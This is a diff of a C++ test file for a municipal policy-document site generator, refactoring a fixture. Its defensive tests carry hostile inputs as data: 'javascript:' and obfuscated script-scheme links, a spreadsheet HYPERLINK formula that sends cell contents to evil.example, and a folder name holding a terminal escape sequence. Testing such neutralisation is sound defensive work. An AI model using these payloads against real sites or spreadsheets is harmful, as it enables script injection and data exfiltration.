@@ -9,25 +9,6 @@ using namespace styrdok::test;
 
 namespace {
 
-const std::string kFront =
-    "title: Riktlinjer för integrationsarbete\n"
-    "type: riktlinjer\n"
-    "decided_by: Kommunfullmäktige\n"
-    "decision_date: 2021-05-19\n"
-    "paragraph: 63\n"
-    "valid_until: 2023-12-31\n";
-
-const std::string kVersionPath = "content/lysekil/riktlinjer/2021-05-19.md";
-
-struct BuiltSite : ProtectedSite {
-  BuiltSite() {
-    write_text(dir / "site.yaml", site_yaml());
-    copy_repository_theme(dir.path());
-    write_text(dir / kVersionPath, version_md(kFront));
-    build_once("lysekil/riktlinjer/index.html");
-  }
-};
-
 std::string with_website(const std::string& website) {
   std::string yaml = site_yaml();
   const std::string name = "    name: Lysekils kommun\n";
@@ -38,29 +19,30 @@ std::string with_website(const std::string& website) {
 }  // namespace
 
 TEST_CASE("a javascript: organisation website fails the build at its place") {
-  BuiltSite site;
+  GuidelinesSite site;
   const auto r = site.fails_with("site.yaml", with_website("javascript:alert(4)"));
   CHECK_THAT(r.output, Catch::Contains("site.yaml:6:14: the address 'javascript:alert(4)' has the scheme "
                                        "'javascript:', which is not allowed in a link"));
 }
 
 TEST_CASE("a Markdown link with a script scheme is published as text, with a warning") {
-  BuiltSite site;
-  write_text(site.dir / kVersionPath, version_md(kFront, "## Syfte\n\nLäs [mer](JAVA&#9;SCRIPT:alert(4)).\n"));
+  GuidelinesSite site;
+  write_text(site.dir / kGuidelinesPath,
+             version_md(kGuidelinesFront, "## Syfte\n\nLäs [mer](JAVA&#9;SCRIPT:alert(4)).\n"));
   const auto r = run_styrdok("build --as-of 2025-01-01 --source " + site.dir.path().string());  // warnings shown
   INFO(r.output);
   REQUIRE(r.exit_code == 0);
-  CHECK_THAT(r.output, Catch::Contains(kVersionPath + ":11:6: warning: the address 'JAVA\\x09SCRIPT:alert(4)'"));
+  CHECK_THAT(r.output, Catch::Contains(kGuidelinesPath + ":11:6: warning: the address 'JAVA\\x09SCRIPT:alert(4)'"));
   const std::string page = read_text(site.dir / "public/lysekil/riktlinjer/2021-05-19/index.html");
   CHECK(page.find("Läs mer.") != std::string::npos);
   CHECK(page.find("SCRIPT:") == std::string::npos);
 }
 
 TEST_CASE("a formula in a title reaches documents.csv neutralised, and documents.json as it was written") {
-  BuiltSite site;
-  std::string front = kFront;
+  GuidelinesSite site;
+  std::string front = kGuidelinesFront;
   front.replace(0, front.find('\n'), "title: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"Klicka\\\")\"");
-  write_text(site.dir / kVersionPath, version_md(front));
+  write_text(site.dir / kGuidelinesPath, version_md(front));
   const auto r = site.build();
   INFO(r.output);
   REQUIRE(r.exit_code == 0);
@@ -73,8 +55,8 @@ TEST_CASE("a formula in a title reaches documents.csv neutralised, and documents
 }
 
 TEST_CASE("a folder name that is not UTF-8 never reaches JSON or the terminal as a raw byte") {
-  BuiltSite site;
-  write_text(site.dir / "content/lysekil/mapp\xFF\x1b[2J/2021-05-19.md", version_md(kFront));
+  GuidelinesSite site;
+  write_text(site.dir / "content/lysekil/mapp\xFF\x1b[2J/2021-05-19.md", version_md(kGuidelinesFront));
   const auto r = run_styrdok("check --format json --as-of 2025-01-01 --source " + site.dir.path().string());
   INFO(r.output);
   CHECK(r.exit_code == 0);
@@ -93,7 +75,7 @@ TEST_CASE("a folder name that is not UTF-8 never reaches JSON or the terminal as
 }
 
 TEST_CASE("an indicator CSV that is a folder is an error, not a chart without measurements") {
-  BuiltSite site;
+  GuidelinesSite site;
   const auto r = site.fails_after([&] {
     write_text(site.dir / "content/lysekil/riktlinjer/indikatorer/sfi.yaml",
                "name: Andel i SFI\nunit: procent\ngoal: syfte\nbaseline: {year: 2012, value: 55}\n"
